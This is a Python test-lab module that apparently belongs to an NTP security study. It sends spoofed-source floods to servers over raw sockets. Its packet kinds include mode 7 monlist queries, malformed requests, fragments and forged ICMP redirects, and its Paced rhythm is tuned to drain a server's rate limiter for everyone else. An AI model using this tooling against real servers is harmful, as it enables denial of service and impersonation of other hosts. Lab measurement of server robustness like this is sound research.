"""Floods: what an attacker off the path can send in somebody else's name, of which kind and at which times.

`spoof.py` makes one packet and one even flood. Here are all kinds that were tried, rhythms, and many streams at once
from one thread, so that hundreds of cells of a measurement fit side by side. Bounded: a stream ends by its rhythm or
with the `with` block.
"""

from __future__ import annotations

import heapq
import itertools
import socket
import threading
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from types import MappingProxyType, TracebackType
from typing import Final, Protocol, Self

from poolproof.ntp import HEADER_BYTES, Header, client_request, encode
from tests.lab.net import Host
from tests.lab.spoof import datagram, redirect

_LONGEST_S = 900.0
"""No flood of the lab lasts longer, whatever its rhythm says."""

GATEWAY, NEIGHBOUR = "198.18.200.1", "198.18.200.99"
"""Of a server on a LAN (`floods_servers`): its router, and another machine there, which forwards nothing."""


@dataclass(frozen=True, slots=True)
class Kind:
    """One kind of packet.

    Attributes:
        what: in words, for tables.
        payload: UDP payload.
        source_ports: taken in turn.
        wrong_checksum: its UDP checksum is wrong.
        first_fragment: the rest of the datagram never comes.
        redirect: no datagram at all, but an ICMP redirect about the victim.
    """

    what: str
    payload: bytes
    source_ports: tuple[int, ...] = (123,)
    wrong_checksum: bool = False
    first_fragment: bool = False
    redirect: bool = False

    def packets(self, claimed: str, server: str) -> tuple[bytes, ...]:
        """The IP packets that bear `claimed` as their source, to send in turn; a redirect bears the gateway's."""
        if self.redirect:
            return (redirect(GATEWAY, NEIGHBOUR, server, claimed),)
        return tuple(
            datagram(
                claimed,
                server,
                self.payload,
                source_port=port,
                wrong_checksum=self.wrong_checksum,
                first_fragment=self.first_fragment,
            )
            for port in self.source_ports
        )


_REQUEST = client_request(0x5EED_5EED_5EED_5EED)


def _mode(mode: int, version: int = 4) -> bytes:
    """A header that is plausible in any mode."""
    stamp = 0xEE00_0000_5EED_5EED
    return encode(
        Header(
            0, version, mode, 2, 6, -20, 1 << 10, 1 << 10, b"\x0a\x00\x00\x01", stamp, stamp + 1, stamp + 2, stamp + 3
        )
    )


KINDS: Final = MappingProxyType(
    {
        "mode3-v4": Kind("valid request, NTPv4", _REQUEST),
        "mode3-v3": Kind("valid request, NTPv3", client_request(0x5EED_5EED_5EED_5EED, 3)),
        "mode3-v7": Kind("request of version 7", client_request(0x5EED_5EED_5EED_5EED, 7)),
        "mode1": Kind("symmetric active, mode 1", _mode(1)),
        "mode2": Kind("symmetric passive, mode 2", _mode(2)),
        "mode4": Kind("answer, mode 4", _mode(4)),
        "mode5": Kind("broadcast, mode 5", _mode(5)),
        "mode6": Kind("control, mode 6 (readstat, 12 bytes)", bytes((4 << 3 | 6, 1, 0, 1)) + bytes(8)),
        "mode7": Kind("private, mode 7 (monlist, 48 bytes)", bytes((2 << 3 | 7, 0, 3, 42)) + bytes(44)),
        "short-47": Kind("request cut to 47 bytes", _REQUEST[:47]),
        "empty": Kind("no payload", b""),
        "mac-20": Kind("request with a bad MAC of 20 bytes", _REQUEST + b"\x00\x00\x00\x2a" + b"\xa5" * 16),
        "mac-24": Kind("request with a bad MAC of 24 bytes", _REQUEST + b"\x00\x00\x00\x2a" + b"\xa5" * 20),
        "crypto-nak": Kind("request with a crypto-NAK", _REQUEST + bytes(4)),
        "extension": Kind("request with a broken extension field", _REQUEST + b"\x02\x04\x00\x1d" + b"\xa5" * 24),
        "long-1400": Kind("request with 1,352 bytes of rubbish", _REQUEST + b"\xa5" * (1400 - HEADER_BYTES)),
        "port-0": Kind("valid request from port 0", _REQUEST, source_ports=(0,)),
        "checksum": Kind("valid request, wrong UDP checksum", _REQUEST, wrong_checksum=True),
        "fragment": Kind("first fragment alone", _REQUEST, first_fragment=True),
        "redirect": Kind("ICMP redirect in the gateway's name", b"", redirect=True),
    }
)
"""Everything that was tried, by the name that tables use."""


class Rhythm(Protocol):
    """When the packets of one stream go out."""

    def offsets(self) -> Iterator[float]:
        """Seconds after the flood's start, rising."""
        ...


@dataclass(frozen=True, slots=True)
class Steady:
    """So many a second, evenly."""

    per_second: float

    def offsets(self) -> Iterator[float]:
        """Seconds after the flood's start, rising."""
        return (number / self.per_second for number in itertools.count())


@dataclass(frozen=True, slots=True)
class Pulses:
    """Bursts that follow a schedule.

    Attributes:
        size: packets in each burst.
        first_s: when the first begins.
        every_s: and every further one after this.
        within_s: how long one takes.
        times: how many bursts; 0: no end.
    """

    size: int
    first_s: float
    every_s: float
    within_s: float
    times: int = 0

    def offsets(self) -> Iterator[float]:
        """Seconds after the flood's start, rising."""
        for number in range(self.times) if self.times else itertools.count():
            for packet in range(self.size):
                yield self.first_s + number * self.every_s + packet * self.within_s / self.size


@dataclass(frozen=True, slots=True)
class Paced:
    """Exact accounting: what a limiter allows and no packet more, so that it has nothing left for anybody else.

    Attributes:
        burst: packets that empty the bucket, sent at once.
        per_second: then just as many as flow in.
    """

    burst: int
    per_second: float

    def offsets(self) -> Iterator[float]:
        """Seconds after the flood's start, rising."""
        yield from itertools.repeat(0.0, self.burst)
        yield from (number / self.per_second for number in itertools.count(1))


@dataclass(slots=True)
class Stream:
    """Packets of one kind, in one name, to one server.

    Attributes:
        packets: sent in turn.
        server: destination.
        rhythm: when.
        sent: how many are out.
    """

    packets: Sequence[bytes]
    server: str
    rhythm: Rhythm
    sent: int = 0


def stream(kind: Kind, claimed: str, server: str, rhythm: Rhythm) -> Stream:
    """A stream that bears an address as its source."""
    return Stream(kind.packets(claimed, server), server, rhythm)


class Floods:
    """Many streams from one attacker at once; a context manager that stops them.

    Example:
        with Floods(attacker, [stream(KINDS["short-47"], verifier.ipv4, target.ipv4, Steady(50))]) as floods:
            floods.add(stream(KINDS["mode4"], other.ipv4, target.ipv4, Steady(5)))
    """

    def __init__(self, attacker: Host, streams: Sequence[Stream] = ()) -> None:
        """Prepares them; nothing is sent before `with`.

        Args:
            attacker: host that really sends.
            streams: what; more can be added later.
        """
        self._attacker = attacker
        self._first = tuple(streams)
        self._due: list[tuple[float, int, Stream, Iterator[float], float]] = []
        self._order = itertools.count()
        self._changed = threading.Condition()
        self._stopped = False
        self.sent = 0
        self._thread = threading.Thread(target=self._run, name=f"floods-{attacker.name}")

    def __enter__(self) -> Self:
        self._sockets = self._attacker.call(_raw_sockets)
        self.begun_s = time.monotonic()
        self.add(*self._first)
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, traceback: TracebackType | None
    ) -> None:
        with self._changed:
            self._stopped = True
            self._changed.notify_all()
        self._thread.join()
        for each in self._sockets.values():
            each.close()

    def add(self, *streams: Stream) -> None:
        """Begin further streams now."""
        with self._changed:
            now = time.monotonic()
            for each in streams:
                self._push(each, each.rhythm.offsets(), now)
            self._changed.notify_all()

    def clear(self) -> None:
        """End all streams; others may be added."""
        with self._changed:
            self._due.clear()

    def await_sent(self, one: Stream, packets: int, timeout_s: float = 30.0) -> None:
        """Returns when so many packets of a stream are out.

        Raises:
            TimeoutError: not in that time.
        """
        with self._changed:
            if not self._changed.wait_for(lambda: one.sent >= packets, timeout_s):
                raise TimeoutError(f"{one.sent} of {packets} packets were sent in {timeout_s} s")

    def _push(self, one: Stream, offsets: Iterator[float], start_s: float) -> None:
        offset = next(offsets, None)
        if offset is not None:
            heapq.heappush(self._due, (start_s + offset, next(self._order), one, offsets, start_s))

    def _run(self) -> None:
        deadline = self.begun_s + _LONGEST_S
        while (now := time.monotonic()) < deadline:
            with self._changed:
                if self._stopped:
                    return
                if not self._due or self._due[0][0] > now:
                    self._changed.wait(min(1.0, self._due[0][0] - now) if self._due else 1.0)
                    continue
                while self._due and self._due[0][0] <= now:
                    _, _, one, offsets, start_s = heapq.heappop(self._due)
                    packet = one.packets[one.sent % len(one.packets)]
                    self._sockets[":" in one.server].sendto(packet, (one.server, 0))
                    one.sent += 1
                    self.sent += 1
                    self._push(one, offsets, start_s)
                self._changed.notify_all()


def _raw_sockets() -> dict[bool, socket.socket]:
    """By whether the destination is IPv6."""
    return {
        family is socket.AF_INET6: socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        for family in (socket.AF_INET, socket.AF_INET6)
    }
